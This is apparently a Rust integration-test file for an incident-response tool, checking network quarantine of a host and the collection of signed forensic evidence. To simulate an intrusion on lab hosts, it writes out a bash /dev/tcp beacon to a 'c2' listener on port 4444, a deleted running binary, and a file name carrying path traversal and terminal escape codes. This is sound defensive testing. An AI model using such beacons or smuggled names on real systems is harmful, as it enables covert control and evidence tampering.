//! The night of an intrusion, on real hosts: what is kept, what is cut off, what is found.

use crate::common::{Fleet, Run};
use std::path::PathBuf;
use std::time::{Duration, Instant};

fn playbook(fleet: &Fleet, text: &str) -> PathBuf {
    let path = fleet.0.dir().join("book.yml");
    std::fs::write(&path, text).unwrap();
    path
}

fn run(fleet: &Fleet, words: &[&str], limit: &str, text: &str) -> Run {
    let path = playbook(fleet, text).display().to_string();
    let inventory = fleet.inventory();
    fleet.steadfast(&[words, &[&path, "-i", &inventory, "-l", limit]].concat())
}

/// Waits until a host says this of itself.
fn until(fleet: &Fleet, host: &str, script: &str, what: &str) {
    let deadline = Instant::now() + Duration::from_secs(40);
    loop {
        let said = fleet.inside(host, script);
        if said.code == 0 {
            return;
        }
        assert!(Instant::now() < deadline, "{what}: {}{}", said.out, said.err);
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn address(fleet: &Fleet, host: &str) -> String {
    fleet.0.host(host).unwrap().address.clone()
}

/// What a quarantine may leave behind nowhere.
const TRACES: &str = "nft -s list ruleset; find /etc/systemd /etc/nftables* -printf '%p %y %m %u\n' | sort";
/// Whether the beacon's connection to the other host stands there and still says something: the count of what came grows.
const HEARS: &str = "a=$(wc -c </run/heard); sleep 2; [ $(wc -c </run/heard) -gt $a ]";

#[test]
fn a_host_in_quarantine_talks_to_its_administrators_alone_also_after_a_restart() {
    let fleet = Fleet::up(2);
    let subnet = fleet.0.subnet.clone();
    let (one, other) = (address(&fleet, "h1"), address(&fleet, "h2"));
    // h2 listens by a socket of systemd and writes down what it hears; h1 keeps a connection and goes on telling.
    let heard = fleet.inside(
        "h2",
        "cd /run/systemd/system; printf '[Socket]\nListenStream=4444\nAccept=yes\n' >c2.socket
        printf '[Service]\nStandardInput=socket\nStandardOutput=append:/run/heard\nExecStart=/bin/cat\n' >c2@.service
        touch /run/heard; systemctl daemon-reload; systemctl start c2.socket",
    );
    assert_eq!(heard.code, 0, "{}", heard.err);
    let beacon = format!(
        "systemd-run -q --unit=beacon bash -c 'while :; do exec 3<>/dev/tcp/{other}/4444 && while echo x >&3; do sleep 0.2; done; sleep 0.2; done'"
    );
    assert_eq!(fleet.inside("h1", &beacon).code, 0);
    until(&fleet, "h2", HEARS, "the beacon is heard before");
    let before = fleet.inside("h1", TRACES).out;

    // Whoever comes from elsewhere than `admins` is refused before anything is done.
    let book = |admins: &str| {
        format!(
            "hosts: all\nbecome: true\nsteps:\n- id: contain\n  quarantine: {{admins: [{admins}], owner: \"alice, 4711\", until: \"2999-01-31\"}}\n"
        )
    };
    let elsewhere = run(&fleet, &["apply", "-y"], "h1", &book("192.0.2.0/24"));
    assert_eq!(
        (elsewhere.code, elsewhere.flat().contains("not among")),
        (3, true),
        "{}{}",
        elsewhere.out,
        elsewhere.err
    );
    assert_eq!(before, fleet.inside("h1", TRACES).out);

    let mine = book(&format!("{subnet}.1"));
    let contained = run(&fleet, &["apply", "-y"], "h1", &mine);
    assert_eq!(contained.code, 0, "{}{}", contained.out, contained.err);
    // The shell has it, and so has whatever it waits for.
    let cut = |by: &str| format!("tcp port 4444 of others live connections: 1 by {by}: {other} → cut");
    assert!(["bash", "sleep"].iter().any(|by| contained.flat().contains(&cut(by))), "{}", contained.out);
    let silent = || fleet.inside("h2", HEARS).code != 0;
    assert!(silent(), "the beacon is heard still");
    // The program that kept the connection was told that it is closed, and its new ones are refused.
    let left = fleet.inside("h1", &format!("ss -Htn state established dst {other}; ss -Htn state syn-sent"));
    assert_eq!(left.out, "", "connections that stand");
    assert_ne!(fleet.inside("h2", &format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{one}/22'")).code, 0, "others get in");
    assert_ne!(fleet.inside("h1", &format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{other}/22'")).code, 0, "it gets out");
    let again = run(&fleet, &["check"], "h1", &mine);
    assert_eq!(again.code, 0, "{}{}", again.out, again.err);

    // It is there before the network after a restart.
    assert_eq!(fleet.inside("h1", "touch /run/before && systemctl --no-block reboot").code, 0);
    until(&fleet, "h1", "[ ! -e /run/before ] && ss -Hltn sport = :22 | grep -q .", "it starts again");
    let after = run(&fleet, &["check"], "h1", &mine);
    assert_eq!(after.code, 0, "{}{}", after.out, after.err);
    let order = fleet.inside("h1", "systemctl is-active steadfast-quarantine.service");
    assert_eq!(order.out, "active\n", "{}", order.err);
    assert_ne!(fleet.inside("h1", &format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{other}/22'")).code, 0, "it gets out");

    let released = run(
        &fleet,
        &["apply", "-y"],
        "h1",
        "hosts: all\nbecome: true\nsteps:\n- id: release\n  quarantine: {state: released}\n",
    );
    assert_eq!(released.code, 0, "{}{}", released.out, released.err);
    assert_eq!(before, fleet.inside("h1", TRACES).out);
    assert_eq!(
        fleet.inside("h1", &format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{other}/22'")).code,
        0,
        "it stays shut in"
    );
    // The way back of the journal leads to the quarantine again, and the one of that to where it all began.
    let back = fleet.steadfast(&["rollback", "last", "-y"]);
    assert_eq!(back.code, 0, "{}{}", back.out, back.err);
    assert_eq!(run(&fleet, &["check"], "h1", &mine).code, 0);
    // Both ways it is a turn of the incident, which the time line tells: cut off once more here, and released there.
    let back = fleet.steadfast(&["rollback", "last", "-y"]);
    assert_eq!(back.code, 0, "{}{}", back.out, back.err);
    assert!(back.flat().contains("contained") && back.flat().contains("released"), "{}", back.out);
    assert_eq!(before, fleet.inside("h1", TRACES).out);
}

const BOOK: &str = "hosts: all
become: true
mode: incident
steps:
- id: motd
  file: {path: /etc/motd, content: \"closed\\n\"}
- id: evidence
  evidence: {}
";

#[test]
fn evidence_comes_before_any_change_is_signed_and_tells_of_tampering() {
    let fleet = Fleet::up(1);
    // A program that is on no disk any more, names that hurt, a file that never ends, a log with a terminal's codes.
    let scene = fleet.inside(
        "h1",
        r#"cp /bin/sleep /tmp/.x && systemd-run -q --unit=ghost /tmp/.x 1d && sleep 0.3 && rm /tmp/.x && cd /etc/cron.d &&
        touch "$(printf '../../a\nb\033[2J')" && printf '\033[2Jhello\n' >>/var/log/auth.log && yes | head -c 6000000 >/var/log/syslog"#,
    );
    assert_eq!(scene.code, 0, "{}", scene.err);
    let without = run(&fleet, &["validate"], "all", &BOOK.replace("- id: evidence\n  evidence: {}\n", ""));
    assert_eq!(
        (without.code, without.err.contains("before any evidence was taken")),
        (1, true),
        "{}{}",
        without.out,
        without.err
    );

    let looked = run(&fleet, &["check"], "all", BOOK);
    assert_eq!(looked.code, 2, "{}{}", looked.out, looked.err);
    let kept = fleet.0.dir().join("state/evidence");
    assert!(!kept.exists(), "a check takes nothing");

    let before = crate::common::contents(
        &fleet.root("h1"),
        &["/var/log", "/run", "/tmp", "/proc", "/sys", "/dev", "/var/lib/steadfast", "/etc/motd"],
    );
    let done = run(&fleet, &["apply", "-y"], "all", BOOK);
    assert_eq!(done.code, 0, "{}{}", done.out, done.err);
    assert!(!format!("{}{}", done.out, done.err).contains('\u{1b}'));
    let after = crate::common::contents(
        &fleet.root("h1"),
        &["/var/log", "/run", "/tmp", "/proc", "/sys", "/dev", "/var/lib/steadfast", "/etc/motd"],
    );
    assert_eq!(crate::common::differences(&before, &after), Vec::<String>::new(), "something was written on the host");
    let only = |dir: &std::path::Path| std::fs::read_dir(dir).unwrap().next().unwrap().unwrap().path();
    let dir = only(&only(&kept));
    let words = |more: &[&str]| fleet.steadfast(&[&["evidence", "verify", &dir.display().to_string()], more].concat());
    let good = words(&[]);
    assert_eq!(good.code, 0, "{}{}", good.out, good.err);
    assert!(good.out.contains("signed: "), "{}", good.out);
    let read = |name: &str| String::from_utf8_lossy(&std::fs::read(dir.join(name)).unwrap()).into_owned();
    let names: Vec<String> =
        std::fs::read_dir(&dir).unwrap().map(|one| one.unwrap().file_name().into_string().unwrap()).collect();
    let program = names.iter().find(|name| name.starts_with("023-process-") && name.ends_with("-program")).unwrap();
    assert_eq!(
        std::fs::read(dir.join(program)).unwrap(),
        std::fs::read(fleet.root("h1").join("usr/bin/sleep")).unwrap()
    );
    assert!(read("020-processes").contains("/tmp/.x (deleted)"));
    assert!(read("manifest.json").contains("\"bytes\": 6000000"), "a log is taken piece by piece");
    assert!(!read("080-accounts").contains("$y$") && read("080-accounts").contains("root:"));
    // What is taken comes first: the file that was changed is older in the evidence.
    assert!(fleet.inside("h1", "cat /etc/motd").out.contains("closed"));
    let manifest: serde_json::Value = serde_json::from_str(&read("manifest.json")).unwrap();
    let at: Vec<u64> = manifest["items"].as_array().unwrap().iter().map(|item| item["at"].as_u64().unwrap()).collect();
    assert!(at.is_sorted() && at.len() > 20, "{at:?}");

    let allowed = fleet.0.dir().join("allowed");
    let public = std::fs::read_to_string(fleet.0.dir().join("id_ed25519.pub")).unwrap();
    std::fs::write(&allowed, format!("alice {public}")).unwrap();
    let by = words(&["--allowed-signers", &allowed.display().to_string()]);
    assert_eq!((by.code, by.out.contains("signed: alice")), (0, true), "{}{}", by.out, by.err);
    std::fs::write(dir.join("010-clock"), "another time\n").unwrap();
    let bad = words(&[]);
    assert_eq!((bad.code, bad.err.contains("010-clock is not what was kept")), (2, true), "{}{}", bad.out, bad.err);
}
